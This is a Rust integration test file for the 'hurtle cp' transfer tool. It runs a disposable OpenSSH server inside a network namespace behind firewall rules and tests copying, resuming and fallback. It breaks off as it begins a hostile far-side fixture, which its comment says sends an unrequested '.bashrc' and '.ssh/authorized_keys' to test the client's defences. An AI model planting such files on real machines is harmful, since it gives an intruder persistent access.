//! `hurtle cp` against a real OpenSSH server: each test starts its own sshd (Debian's
//! openssh-server) on its own port inside a network namespace it creates, with a throwaway
//! host key and user key, and copies to and from it. Needs root (namespaces); a missing sshd
//! fails the test, naming the packages to install.

#[allow(dead_code)] // shared with the other test binaries
mod support;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};
use support::fsx;
use support::netns::{ip, Namespaces};
use support::proc::{bin, Finished, Proc};
use support::TRANSFER_TIMEOUT;

const MIB: u64 = 1 << 20;
const SSHD: &str = "/usr/sbin/sshd";
/// The port sshd listens on inside its namespace.
const SSH_PORT: &str = "2222";

/// One sshd in its own namespace, reachable from here at `addr`; stopped (by its PID, through
/// its process handle) and its namespace deleted when dropped. Fields drop in order: sshd
/// first, then the namespace, then the files.
struct Sshd {
    proc: Proc,
    ns: Namespaces,
    /// The host's address, as a `root@ADDR:` operand takes it.
    addr: String,
    dir: tempfile::TempDir,
}

static NEXT: AtomicU32 = AtomicU32::new(0);

fn run(program: &str, args: &[&str]) {
    let out = Command::new(program)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("cannot run {program}: {e}"));
    assert!(
        out.status.success(),
        "{program} {}: {}",
        args.join(" "),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Fails (never skips) when OpenSSH is missing.
fn require_openssh() {
    let on_path = |p: &str| {
        Command::new("sh")
            .args(["-c", &format!("command -v {p}")])
            .output()
            .is_ok_and(|o| o.status.success())
    };
    assert!(
        Path::new(SSHD).exists() && on_path("ssh") && on_path("ssh-keygen"),
        "these tests need OpenSSH: install the packages openssh-server and openssh-client \
         (apt-get install openssh-server openssh-client); {SSHD}, ssh or ssh-keygen is missing"
    );
}

impl Sshd {
    /// Starts sshd in a new namespace joined to this one by a veth pair (10.231.X.1 here,
    /// 10.231.X.2 there). Its sessions see PATH=DIR/bin:/usr/bin:/bin, where DIR/bin/hurtle is
    /// the binary under test, and HOME=DIR.
    fn start(test: &str) -> Option<Sshd> {
        if !support::require_root(test) {
            return None;
        }
        require_openssh();
        let n = NEXT.fetch_add(1, Ordering::Relaxed);
        let pid = std::process::id();
        let net = (pid % 25) * 10 + n % 10;
        let name = format!("hurtle-ssh-{pid}-{n}");
        let (near_if, far_if) = (format!("hs{}n{n}", pid % 100_000), "hs-far".to_string());
        let (near, far) = (format!("10.231.{net}.1"), format!("10.231.{net}.2"));
        let mut ns = Namespaces { names: Vec::new() };
        ns.add(&name);
        ip(&[
            "link", "add", &near_if, "type", "veth", "peer", "name", &far_if, "netns", &name,
        ]);
        ip(&["addr", "add", &format!("{near}/30"), "dev", &near_if]);
        ip(&["link", "set", &near_if, "up"]);
        ip(&[
            "-n",
            &name,
            "addr",
            "add",
            &format!("{far}/30"),
            "dev",
            &far_if,
        ]);
        ip(&["-n", &name, "link", "set", &far_if, "up"]);

        let dir = support::tempdir("hurtle-sshd-");
        let d = dir.path();
        for key in ["host_key", "user_key", "wrong_key"] {
            let path = d.join(key);
            run(
                "ssh-keygen",
                &[
                    "-q",
                    "-t",
                    "ed25519",
                    "-N",
                    "",
                    "-f",
                    path.to_str().unwrap(),
                ],
            );
        }
        std::fs::copy(d.join("user_key.pub"), d.join("authorized_keys")).unwrap();
        std::fs::create_dir(d.join("bin")).unwrap();
        std::os::unix::fs::symlink(bin(), d.join("bin/hurtle")).unwrap();
        // sshd's privilege separation directory, which the package's service would create.
        std::fs::create_dir_all("/run/sshd").unwrap();
        let config = format!(
            "Port {SSH_PORT}\n\
             ListenAddress {far}\n\
             HostKey {d}/host_key\n\
             PidFile none\n\
             AuthorizedKeysFile {d}/authorized_keys\n\
             StrictModes no\n\
             UsePAM no\n\
             PermitRootLogin yes\n\
             PasswordAuthentication no\n\
             KbdInteractiveAuthentication no\n\
             SetEnv PATH={d}/bin:/usr/bin:/bin HOME={d}\n",
            d = d.display()
        );
        std::fs::write(d.join("sshd_config"), config).unwrap();
        let cfg = d.join("sshd_config");
        let mut proc = Proc::spawn_program(
            "sshd",
            "ip",
            &[
                "netns",
                "exec",
                &name,
                SSHD,
                "-D",
                "-e",
                "-f",
                cfg.to_str().unwrap(),
            ],
        );
        proc.wait_for_output("sshd listening", Duration::from_secs(10), |_, err| {
            err.contains("Server listening").then_some(())
        });
        // The root-side end of the veth goes with the namespace's end.
        Some(Sshd {
            proc,
            ns,
            addr: far,
            dir,
        })
    }

    /// A firewall on the far host (nftables in its namespace, gone with it): everything to
    /// and from it is dropped except its sshd port and its own loopback, as where only ssh
    /// gets through.
    fn only_ssh_gets_through(&self) {
        self.nft(&format!(
            "table inet hurtle_only_ssh {{\n\
             \x20chain in {{ type filter hook input priority 0; policy drop; iif lo accept; tcp dport {SSH_PORT} accept; counter; }}\n\
             \x20chain out {{ type filter hook output priority 0; policy drop; oif lo accept; tcp sport {SSH_PORT} accept; counter; }}\n\
             }}\n"
        ));
    }

    /// A firewall on the far host that lets ssh and the session's control port through, and
    /// nothing else: no UDP, no other TCP port (the receiver's data ports). The control port
    /// is ephemeral, so it is learnt: the first TCP port, other than sshd's, that a connection
    /// is opened to, either way (a push connects to the far receiver's port, a pull's far
    /// sender to this side's), goes into a set of one element; later connections to that port
    /// pass, to any other port they are dropped.
    fn only_ssh_and_the_control_port_get_through(&self) {
        self.nft(&format!(
            "table inet hurtle_control_only {{\n\
             \x20set control {{ type inet_service; size 1; flags dynamic; }}\n\
             \x20chain in {{ type filter hook input priority 0; policy drop; iif lo accept; ct state established,related accept; tcp dport {SSH_PORT} accept; tcp dport @control accept; tcp flags syn ct state new add @control {{ tcp dport }} accept; counter; }}\n\
             \x20chain out {{ type filter hook output priority 0; policy drop; oif lo accept; ct state established,related accept; tcp sport {SSH_PORT} accept; tcp dport @control accept; tcp flags syn ct state new add @control {{ tcp dport }} accept; counter; }}\n\
             }}\n"
        ));
    }

    /// Empties the `control` set: the next transfer's control port is learnt anew.
    fn forget_the_control_port(&self) {
        self.nft("flush set inet hurtle_control_only control\n");
    }

    /// Loads an nftables `script` in the far namespace.
    fn nft(&self, script: &str) {
        let mut child = Command::new("ip")
            .args(["netns", "exec", &self.ns.names[0], "nft", "-f", "-"])
            .stdin(std::process::Stdio::piped())
            .spawn()
            .expect("ip netns exec ... nft (package nftables) is needed for this test");
        use std::io::Write;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(script.as_bytes())
            .unwrap();
        assert!(child.wait().unwrap().success(), "nft refused: {script}");
    }

    /// Packets the firewall dropped coming in (its input chain's counter).
    fn dropped_in(&self) -> u64 {
        self.dropped("hurtle_only_ssh", "in")
    }

    /// Packets a chain of a firewall table dropped (its counter, the chain's last rule).
    fn dropped(&self, table: &str, chain: &str) -> u64 {
        let out = Command::new("ip")
            .args(["netns", "exec", &self.ns.names[0], "nft", "list", "chain"])
            .args(["inet", table, chain])
            .output()
            .unwrap();
        support::netns::nft_packets(&String::from_utf8_lossy(&out.stdout))
    }

    /// The ports in the `control` set of [`Sshd::only_ssh_and_the_control_port_get_through`].
    fn control_ports(&self) -> String {
        let out = Command::new("ip")
            .args(["netns", "exec", &self.ns.names[0], "nft", "list", "set"])
            .args(["inet", "hurtle_control_only", "control"])
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        text.lines()
            .find_map(|l| l.trim().strip_prefix("elements = "))
            .unwrap_or("{}")
            .to_string()
    }

    fn path(&self, p: &str) -> PathBuf {
        self.dir.path().join(p)
    }

    /// `root@ADDR:PATH`.
    fn remote(&self, path: &Path) -> String {
        format!("root@{}:{}", self.addr, path.display())
    }

    /// `root@ADDR:PATH/`: a directory, into which the sources go (created if missing).
    fn remote_dir(&self, path: &Path) -> String {
        format!("{}/", self.remote(path))
    }

    /// The `-e` command with `key`.
    fn ssh_cmd(&self, key: &str) -> String {
        format!(
            "ssh -i {} -o IdentitiesOnly=yes -o BatchMode=yes -o UserKnownHostsFile={} \
             -o StrictHostKeyChecking=accept-new",
            self.path(key).display(),
            self.path("known_hosts").display()
        )
    }

    /// `hurtle cp -e SSH -P PORT --remote-hurtle BIN ARGS`, not yet waited for.
    fn spawn_cp(&self, args: &[&str]) -> Proc {
        self.spawn_cp_with(bin(), args)
    }

    /// [`Sshd::spawn_cp`] with another far-side binary.
    fn spawn_cp_with(&self, remote_hurtle: &str, args: &[&str]) -> Proc {
        let ssh = self.ssh_cmd("user_key");
        let mut all = vec![
            "cp",
            "-e",
            &ssh,
            "-P",
            SSH_PORT,
            "--remote-hurtle",
            remote_hurtle,
        ];
        all.extend_from_slice(args);
        Proc::spawn("hurtle cp", &all)
    }

    fn cp(&self, args: &[&str]) -> Finished {
        self.spawn_cp(args).wait(TRANSFER_TIMEOUT)
    }
}

impl Drop for Sshd {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!("sshd's log:\n{}", self.proc.stderr());
        }
    }
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// `p/`: a local directory DEST, created if missing.
fn dir(p: &Path) -> String {
    format!("{}/", p.display())
}

/// A small tree: `tree/top.bin`, `tree/a/b/deep.bin`, `tree/empty/`.
fn make_tree(root: &Path) -> PathBuf {
    let tree = root.join("tree");
    fsx::write_random(&tree.join("top.bin"), 3 * MIB + 11, 1);
    fsx::write_random(&tree.join("a/b/deep.bin"), 70_000, 2);
    std::fs::create_dir_all(tree.join("empty")).unwrap();
    tree
}

/// Processes whose command line contains `ssh-serve` and `needle`.
fn far_processes(needle: &str) -> Vec<u32> {
    let mut found = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let cmd = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
        let cmd = String::from_utf8_lossy(&cmd).replace('\0', " ");
        if cmd.contains("ssh-serve") && cmd.contains(needle) {
            found.push(pid);
        }
    }
    found
}

#[test]
fn push_and_pull_a_file_and_a_tree_byte_exact() {
    let Some(h) = Sshd::start("push_and_pull_a_file_and_a_tree_byte_exact") else {
        return;
    };
    let local = support::tempdir("hurtle-cp-");
    let file = local.path().join("data.bin");
    fsx::write_random(&file, 5 * MIB + 123, 7);
    let tree = make_tree(local.path());

    // Push: a file and a tree into a remote directory that does not exist yet (DEST/).
    let far = h.path("pushed");
    let pushed = h.cp(&["--json", s(&file), s(&tree), &h.remote_dir(&far)]);
    pushed.assert_success();
    assert_eq!(pushed.json()["transport"], "udp", "{}", pushed.stdout);
    assert_eq!(pushed.json()["path"], "direct", "{}", pushed.stdout);
    fsx::assert_same_file(&file, &far.join("data.bin"));
    assert_eq!(fsx::tree(&tree), fsx::tree(&far.join("tree")));
    fsx::assert_no_part_files(&far);

    // Pull them back, with the far side's hurtle found on its PATH (sshd's SetEnv) and the
    // port given in -e instead of -P.
    let back = local.path().join("back");
    let ssh = format!("{} -p {SSH_PORT}", h.ssh_cmd("user_key"));
    let remote_file = h.remote(&far.join("data.bin"));
    let remote_tree = h.remote(&far.join("tree"));
    Proc::spawn(
        "hurtle cp (pull)",
        &["cp", "-e", &ssh, &remote_file, &remote_tree, &dir(&back)],
    )
    .wait(TRANSFER_TIMEOUT)
    .assert_success();
    fsx::assert_same_file(&file, &back.join("data.bin"));
    assert_eq!(fsx::tree(&tree), fsx::tree(&back.join("tree")));
    fsx::assert_no_part_files(&back);
}

#[test]
fn a_trailing_slash_copies_the_contents_as_rsync_does() {
    let Some(h) = Sshd::start("a_trailing_slash_copies_the_contents_as_rsync_does") else {
        return;
    };
    let local = support::tempdir("hurtle-cp-");
    let tree = make_tree(local.path());
    let names = |dir: &Path| fsx::tree(dir).into_keys().collect::<Vec<_>>();

    let itself = h.path("itself");
    // (over parallel TCP, the other data path)
    let tcp = h.cp(&[
        "--transport",
        "tcp",
        "--json",
        s(&tree),
        &h.remote_dir(&itself),
    ]);
    tcp.assert_success();
    assert_eq!(tcp.json()["transport"], "tcp", "{}", tcp.stdout);
    assert!(
        itself.join("tree/a/b/deep.bin").is_file(),
        "{:?}",
        names(&itself)
    );

    let contents = h.path("contents");
    let with_slash = format!("{}/", tree.display());
    h.cp(&[&with_slash, &h.remote(&contents)]).assert_success();
    assert_eq!(fsx::tree(&tree), fsx::tree(&contents));

    // The contents of an empty directory: nothing to send, DEST is made all the same.
    let none = h.path("from-empty");
    let empty = format!("{}/", tree.join("empty").display());
    h.cp(&[&empty, &h.remote(&none)]).assert_success();
    assert!(fsx::tree(&none).is_empty(), "{:?}", names(&none));

    // The same rule on the far side of a pull.
    let pulled = local.path().join("pulled");
    let remote = format!("{}/", h.remote(&itself.join("tree")));
    h.cp(&[&remote, s(&pulled)]).assert_success();
    assert_eq!(fsx::tree(&tree), fsx::tree(&pulled));
}

#[test]
fn a_killed_copy_resumes_and_leaves_no_far_process() {
    let Some(h) = Sshd::start("a_killed_copy_resumes_and_leaves_no_far_process") else {
        return;
    };
    killed_copy_resumes(&h, &[], "direct");
}

#[test]
fn a_copy_through_the_ssh_channel_killed_resumes_and_leaves_no_far_process() {
    let Some(h) =
        Sshd::start("a_copy_through_the_ssh_channel_killed_resumes_and_leaves_no_far_process")
    else {
        return;
    };
    killed_copy_resumes(&h, &["--via-ssh"], "ssh");
}

/// Kills a push part-way (`extra` flags given), checks that the far process ends and its part
/// file stays, then resumes it to the end with the same flags over `path`.
fn killed_copy_resumes(h: &Sshd, extra: &[&str], path: &str) {
    let local = support::tempdir("hurtle-cp-");
    let file = local.path().join("big.bin");
    fsx::write_random(&file, 24 * MIB, 9);
    let far = h.path("resumed");
    let dest = h.remote_dir(&far);
    // 24 MiB at 24 Mbit/s: about 8 s, slow enough to kill part-way.
    let mut args = vec!["--rate", "24M"];
    args.extend_from_slice(extra);
    args.extend([s(&file), &dest]);
    let mut cp = h.spawn_cp(&args);
    let journal = far.join(".big.bin.hurtle-blocks");
    let deadline = Instant::now() + Duration::from_secs(30);
    // The journal starts with a header line; then one line per verified block: wait for a few.
    let blocks = |j: &Path| std::fs::read_to_string(j).map_or(0, |t| t.lines().skip(1).count());
    while blocks(&journal) < 3 {
        assert!(
            cp.is_running(),
            "finished before it could be killed: {}",
            cp.stderr()
        );
        assert!(
            Instant::now() < deadline,
            "no verified block on the far side"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(!far_processes(s(&far)).is_empty(), "the far hurtle runs");
    cp.kill();
    let killed = Instant::now();
    while !far_processes(s(&far)).is_empty() {
        assert!(
            killed.elapsed() < Duration::from_secs(8),
            "the far hurtle outlived the session: {:?}",
            far_processes(s(&far))
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    eprintln!("the far side ended {:?} after the kill", killed.elapsed());
    assert!(!fsx::part_files(&far).is_empty(), "a part file is kept");

    let mut args = vec!["--json"];
    args.extend_from_slice(extra);
    args.extend([s(&file), &dest]);
    let again = h.cp(&args);
    again.assert_success();
    let v = again.json();
    assert!(v["resumed_bytes"].as_u64().unwrap() > 0, "{v}");
    assert_eq!(v["path"], path, "{v}");
    fsx::assert_same_file(&file, &far.join("big.bin"));
    fsx::assert_no_part_files(&far);
}

#[test]
fn behind_a_firewall_that_lets_only_ssh_through_push_and_pull_use_the_ssh_channel() {
    let Some(h) = Sshd::start(
        "behind_a_firewall_that_lets_only_ssh_through_push_and_pull_use_the_ssh_channel",
    ) else {
        return;
    };
    h.only_ssh_gets_through();
    let local = support::tempdir("hurtle-cp-");
    let file = local.path().join("data.bin");
    fsx::write_random(&file, 5 * MIB + 123, 17);
    let tree = make_tree(local.path());

    // Push: the far side's port does not answer; the data goes through the ssh channel.
    let far = h.path("pushed");
    let pushed = h.cp(&["--json", s(&file), s(&tree), &h.remote_dir(&far)]);
    pushed.assert_success();
    let v = pushed.json();
    assert_eq!(v["path"], "ssh", "{v}");
    assert_eq!(v["transport"], "tcp", "{v}");
    assert!(
        pushed
            .stderr
            .contains("cannot connect to the far side's port")
            && pushed
                .stderr
                .contains("goes through the ssh channel instead, which is slow"),
        "{}",
        pushed.stderr
    );
    assert!(
        pushed
            .stderr
            .contains("path: through the ssh channel (slow; no direct port was reachable)"),
        "{}",
        pushed.stderr
    );
    fsx::assert_same_file(&file, &far.join("data.bin"));
    assert_eq!(fsx::tree(&tree), fsx::tree(&far.join("tree")));
    fsx::assert_no_part_files(&far);
    assert!(h.dropped_in() > 0, "the firewall dropped nothing");

    // Pull them back: the far sender cannot dial back; the text summary says the path.
    let back = local.path().join("back");
    let pulled = h.cp(&[
        &h.remote(&far.join("data.bin")),
        &h.remote(&far.join("tree")),
        &dir(&back),
    ]);
    pulled.assert_success();
    assert!(
        pulled
            .stdout
            .contains("path: through the ssh channel (slow; no direct port was reachable)"),
        "{}",
        pulled.stdout
    );
    assert!(
        pulled.stderr.contains("cannot connect back to"),
        "{}",
        pulled.stderr
    );
    fsx::assert_same_file(&file, &back.join("data.bin"));
    assert_eq!(fsx::tree(&tree), fsx::tree(&back.join("tree")));
    fsx::assert_no_part_files(&back);
}

/// The warning of a transfer retried through the ssh channel after its direct session failed.
const RETRYING: &str = "before any file data arrived: retrying once through the ssh channel";
/// The summary's path line then.
const RETRIED_PATH: &str =
    "path: through the ssh channel (slow; the direct path could not carry the data)";
/// How long the direct attempt may take to fail: the UDP probe's 1.5 s, the TCP data
/// connections' 5 s connect timeout, and the set-ups, with room for a loaded machine.
const DIRECT_ATTEMPT_BOUND: f64 = 20.0;

/// The seconds the warning says the direct attempt took (`...; 7.3 s spent)`).
fn seconds_spent(stderr: &str) -> f64 {
    let line = stderr
        .lines()
        .find(|l| l.contains(RETRYING))
        .unwrap_or_else(|| panic!("no retry warning:\n{stderr}"));
    line.split(" s spent")
        .next()
        .and_then(|l| l.rsplit("; ").next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no time spent in {line:?}"))
}

#[test]
fn when_only_ssh_and_the_control_port_get_through_a_push_is_retried_through_the_ssh_channel() {
    let Some(h) = Sshd::start(
        "when_only_ssh_and_the_control_port_get_through_a_push_is_retried_through_the_ssh_channel",
    ) else {
        return;
    };
    h.only_ssh_and_the_control_port_get_through();
    let local = support::tempdir("hurtle-cp-");
    let file = local.path().join("data.bin");
    fsx::write_random(&file, 5 * MIB + 123, 37);
    let tree = make_tree(local.path());
    // An empty file needs no data: the failed direct session may commit it already.
    std::fs::write(tree.join("a/nothing"), b"").unwrap();

    // The far receiver's port answers (the direct route is taken), its data does not: UDP is
    // found blocked, then the parallel TCP connections time out; the same transfer is sent
    // again through the ssh channel, by the same two processes.
    let far = h.path("pushed");
    let started = Instant::now();
    let pushed = h.cp(&["--json", s(&file), s(&tree), &h.remote_dir(&far)]);
    eprintln!("the push took {:?}", started.elapsed());
    pushed.assert_success();
    let v = pushed.json();
    assert_eq!(v["path"], "ssh", "{v}");
    assert_eq!(v["transport"], "tcp", "{v}");
    let warnings = v["warnings"].as_array().unwrap();
    assert!(
        warnings
            .iter()
            .any(|w| w.as_str().is_some_and(|w| w.contains(RETRYING))),
        "the JSON summary gives the reason: {v}"
    );
    assert!(
        pushed.stderr.contains(RETRYING) && pushed.stderr.contains("cannot reach the receiver at"),
        "{}",
        pushed.stderr
    );
    assert!(
        !pushed
            .stderr
            .contains("cannot connect to the far side's port"),
        "the direct route was taken: {}",
        pushed.stderr
    );
    assert!(pushed.stderr.contains(RETRIED_PATH), "{}", pushed.stderr);
    let spent = seconds_spent(&pushed.stderr);
    eprintln!("the failed direct attempt took {spent} s");
    assert!(spent < DIRECT_ATTEMPT_BOUND, "{}", pushed.stderr);
    fsx::assert_same_file(&file, &far.join("data.bin"));
    assert_eq!(fsx::tree(&tree), fsx::tree(&far.join("tree")));
    fsx::assert_no_part_files(&far);
    assert!(
        h.dropped("hurtle_control_only", "in") > 0,
        "the firewall dropped nothing coming in"
    );
    let control = h.control_ports();
    assert!(
        control != "{}" && !control.contains(SSH_PORT),
        "the control port was let through: {control}"
    );

    // With --transport udp there is no fallback to parallel TCP: UDP found blocked is the
    // failure, and the same retry follows (through the ssh channel, over TCP).
    h.forget_the_control_port();
    let far = h.path("pushed-udp");
    let pushed = h.cp(&[
        "--transport",
        "udp",
        "--json",
        s(&file),
        &h.remote_dir(&far),
    ]);
    pushed.assert_success();
    let v = pushed.json();
    assert_eq!(v["path"], "ssh", "{v}");
    assert!(
        pushed.stderr.contains(RETRYING)
            && pushed
                .stderr
                .contains("no UDP datagrams reached the receiver"),
        "{}",
        pushed.stderr
    );
    eprintln!(
        "the failed direct attempt (UDP only) took {} s",
        seconds_spent(&pushed.stderr)
    );
    fsx::assert_same_file(&file, &far.join("data.bin"));
    fsx::assert_no_part_files(&far);
}

#[test]
fn when_only_ssh_and_the_control_port_get_through_a_pull_is_retried_through_the_ssh_channel() {
    let Some(h) = Sshd::start(
        "when_only_ssh_and_the_control_port_get_through_a_pull_is_retried_through_the_ssh_channel",
    ) else {
        return;
    };
    h.only_ssh_and_the_control_port_get_through();
    let local = support::tempdir("hurtle-cp-");
    let source = h.path("source");
    let file = source.join("data.bin");
    fsx::write_random(&file, 5 * MIB + 123, 47);
    let tree = make_tree(&source);
    std::fs::write(tree.join("a/nothing"), b"").unwrap();

    // The far sender dials back to this side's port, but neither its datagrams nor its TCP
    // data connections get out: it says so, and sends again through the ssh channel to the
    // same receiver here. The text summary says the path.
    let back = local.path().join("back");
    let started = Instant::now();
    let pulled = h.cp(&[&h.remote(&file), &h.remote(&tree), &dir(&back)]);
    eprintln!("the pull took {:?}", started.elapsed());
    pulled.assert_success();
    assert!(pulled.stdout.contains(RETRIED_PATH), "{}", pulled.stdout);
    assert!(
        pulled
            .stderr
            .contains("the far side's direct session could not get its data through")
            && pulled.stderr.contains(RETRYING)
            && pulled.stderr.contains("cannot reach the receiver at"),
        "{}",
        pulled.stderr
    );
    assert!(
        !pulled.stderr.contains("cannot connect back to"),
        "the direct route was taken: {}",
        pulled.stderr
    );
    let spent = seconds_spent(&pulled.stderr);
    eprintln!("the failed direct attempt took {spent} s");
    assert!(spent < DIRECT_ATTEMPT_BOUND, "{}", pulled.stderr);
    fsx::assert_same_file(&file, &back.join("data.bin"));
    assert_eq!(fsx::tree(&tree), fsx::tree(&back.join("tree")));
    fsx::assert_no_part_files(&back);
    assert!(
        h.dropped("hurtle_control_only", "out") > 0,
        "the firewall dropped nothing going out"
    );
}

#[test]
fn a_refusal_where_only_the_control_port_gets_through_fails_once_without_a_retry() {
    let Some(h) = Sshd::start(
        "a_refusal_where_only_the_control_port_gets_through_fails_once_without_a_retry",
    ) else {
        return;
    };
    h.only_ssh_and_the_control_port_get_through();
    let local = support::tempdir("hurtle-cp-");
    let file = local.path().join("data.bin");
    fsx::write_random(&file, MIB, 57);
    let taken = h.path("taken");
    std::fs::create_dir_all(&taken).unwrap();
    std::fs::write(taken.join("data.bin"), b"theirs").unwrap();

    // Push onto a different file without --overwrite: the far receiver refuses (exit 3),
    // once; no retry through the ssh channel.
    let started = Instant::now();
    let f = h.cp(&[s(&file), &h.remote(&taken)]);
    eprintln!("the refused push took {:?}", started.elapsed());
    let cause = f.assert_exit(3);
    assert!(cause.contains("exists on the receiver"), "{cause}");
    assert!(!f.stderr.contains("ssh channel"), "{}", f.stderr);
    assert_eq!(
        f.stderr.matches("hurtle (far side): error:").count(),
        1,
        "{}",
        f.stderr
    );
    assert_eq!(std::fs::read(taken.join("data.bin")).unwrap(), b"theirs");
    fsx::assert_no_part_files(&taken);

    // Pull onto a different local file: this side refuses, the far sender ends (exit 3).
    h.forget_the_control_port();
    let into = local.path().join("in");
    std::fs::create_dir_all(&into).unwrap();
    std::fs::write(into.join("data.bin"), b"mine").unwrap();
    let started = Instant::now();
    let f = h.cp(&[&h.remote(&taken.join("data.bin")), s(&into)]);
    eprintln!("the refused pull took {:?}", started.elapsed());
    let cause = f.assert_exit(3);
    assert!(cause.contains("exists on the receiver"), "{cause}");
    assert!(!f.stderr.contains("ssh channel"), "{}", f.stderr);
    assert_eq!(std::fs::read(into.join("data.bin")).unwrap(), b"mine");
    fsx::assert_no_part_files(&into);
}

#[test]
fn via_ssh_carries_the_data_through_the_ssh_channel_when_direct_would_work() {
    let Some(h) =
        Sshd::start("via_ssh_carries_the_data_through_the_ssh_channel_when_direct_would_work")
    else {
        return;
    };
    let local = support::tempdir("hurtle-cp-");
    let file = local.path().join("data.bin");
    fsx::write_random(&file, 3 * MIB + 5, 27);
    let tree = make_tree(local.path());

    let far = h.path("forced");
    let pushed = h.cp(&[
        "--via-ssh",
        "--json",
        s(&file),
        s(&tree),
        &h.remote_dir(&far),
    ]);
    pushed.assert_success();
    let v = pushed.json();
    assert_eq!(v["path"], "ssh", "{v}");
    assert_eq!(v["transport"], "tcp", "{v}");
    assert!(
        !pushed.stderr.contains("warning"),
        "asked for, so no warning: {}",
        pushed.stderr
    );
    assert!(
        pushed.stderr.contains("(slow; asked for with --via-ssh)"),
        "{}",
        pushed.stderr
    );
    fsx::assert_same_file(&file, &far.join("data.bin"));
    assert_eq!(fsx::tree(&tree), fsx::tree(&far.join("tree")));
    fsx::assert_no_part_files(&far);

    let back = local.path().join("back");
    let pulled = h.cp(&[
        "--via-ssh",
        "--json",
        &h.remote(&far.join("data.bin")),
        &h.remote(&far.join("tree")),
        &dir(&back),
    ]);
    pulled.assert_success();
    let v = pulled.json();
    assert_eq!(v["path"], "ssh", "{v}");
    fsx::assert_same_file(&file, &back.join("data.bin"));
    assert_eq!(fsx::tree(&tree), fsx::tree(&back.join("tree")));
    fsx::assert_no_part_files(&back);
}

#[test]
fn a_wrong_key_is_an_ssh_failure_with_ssh_s_message() {
    let Some(h) = Sshd::start("a_wrong_key_is_an_ssh_failure_with_ssh_s_message") else {
        return;
    };
    let local = support::tempdir("hurtle-cp-");
    let file = local.path().join("f");
    std::fs::write(&file, b"x").unwrap();
    let ssh = h.ssh_cmd("wrong_key");
    let dest = h.remote(&h.path("never"));
    let f = Proc::spawn(
        "hurtle cp (wrong key)",
        &["cp", "-e", &ssh, "-P", SSH_PORT, s(&file), &dest],
    )
    .wait(TRANSFER_TIMEOUT);
    let cause = f.assert_exit(7);
    assert!(cause.contains("ssh to root@"), "{cause}");
    assert!(f.stderr.contains("Permission denied"), "{}", f.stderr);
    assert!(!h.path("never").exists());
}

#[test]
fn a_far_side_without_hurtle_says_how_to_install_it() {
    let Some(h) = Sshd::start("a_far_side_without_hurtle_says_how_to_install_it") else {
        return;
    };
    let local = support::tempdir("hurtle-cp-");
    let file = local.path().join("f");
    std::fs::write(&file, b"x").unwrap();
    let dest = h.remote(&h.path("never"));
    let f = h
        .spawn_cp_with("/nonexistent", &[s(&file), &dest])
        .wait(TRANSFER_TIMEOUT);
    let cause = f.assert_exit(8);
    assert!(cause.contains("install hurtle there"), "{cause}");
    assert!(cause.contains("--remote-hurtle"), "{cause}");
}

#[test]
fn another_protocol_version_on_the_far_side_is_named() {
    let Some(h) = Sshd::start("another_protocol_version_on_the_far_side_is_named") else {
        return;
    };
    let fake = h.path("future-hurtle");
    std::fs::write(&fake, "#!/bin/sh\necho 'HURTLE-SSH 99 4000 00'\nsleep 1\n").unwrap();
    std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
    let local = support::tempdir("hurtle-cp-");
    let file = local.path().join("f");
    std::fs::write(&file, b"x").unwrap();
    let dest = h.remote(&h.path("never"));
    let f = h
        .spawn_cp_with(s(&fake), &[s(&file), &dest])
        .wait(TRANSFER_TIMEOUT);
    let cause = f.assert_exit(1);
    assert!(
        cause.contains("protocol 99") && cause.contains("speaks 4"),
        "{cause}"
    );
}

#[test]
fn remote_paths_that_are_missing_or_not_directories_exit_as_storage() {
    let Some(h) = Sshd::start("remote_paths_that_are_missing_or_not_directories_exit_as_storage")
    else {
        return;
    };
    let local = support::tempdir("hurtle-cp-");
    // Pull of a source that does not exist: the far sender's exit 6, its message shown.
    let missing = h.remote(&h.path("no-such-file"));
    let f = h.cp(&[&missing, s(&local.path().join("in"))]);
    f.assert_exit(6);
    assert!(
        f.stderr
            .contains("hurtle (far side): error: no such file or directory"),
        "{}",
        f.stderr
    );
    // Push of several sources into a DEST that is a file.
    let file = local.path().join("f");
    std::fs::write(&file, b"x").unwrap();
    let not_dir = h.path("a-file");
    std::fs::write(&not_dir, b"y").unwrap();
    let other = local.path().join("g");
    std::fs::write(&other, b"z").unwrap();
    let f = h.cp(&[s(&file), s(&other), &h.remote(&not_dir)]);
    f.assert_exit(6);
    assert!(f.stderr.contains("not a directory"), "{}", f.stderr);
    assert_eq!(std::fs::read(&not_dir).unwrap(), b"y");
}

#[test]
fn local_to_local_and_remote_to_remote_are_refused() {
    // No ssh is started: no sshd needed.
    let t = support::tempdir("hurtle-cp-");
    let a = t.path().join("a");
    std::fs::write(&a, b"x").unwrap();
    let colon = format!("{}/x:y", t.path().display());
    for (args, what) in [
        (vec![s(&a), s(t.path())], "no operand is remote"),
        (vec![s(&a), &colon], "no operand is remote"),
        (vec!["h1:a", "h2:b"], "remote to remote"),
        (vec!["h1:a", s(&a), s(t.path())], "not both"),
    ] {
        let mut all = vec!["cp"];
        all.extend(args);
        let f = Proc::spawn("hurtle cp", &all).wait(TRANSFER_TIMEOUT);
        let cause = f.assert_exit(2);
        assert!(cause.contains(what), "{all:?}: {cause}");
    }
}

/// The paths under `root`, without their contents.
fn names(root: &Path) -> Vec<String> {
    fsx::tree(root).into_keys().collect()
}

/// A far side that, whatever it is asked for, sends `wanted.txt` (what the test asks for) and
/// `evil.txt`, `.bashrc` and `.ssh/authorized_keys` from `far` (a `--remote-hurtle`).
fn hostile_far_side(h: &Sshd, far: &Path) -> PathBuf {
    std::fs::create_dir_all(far.join(".ssh")).unwrap();
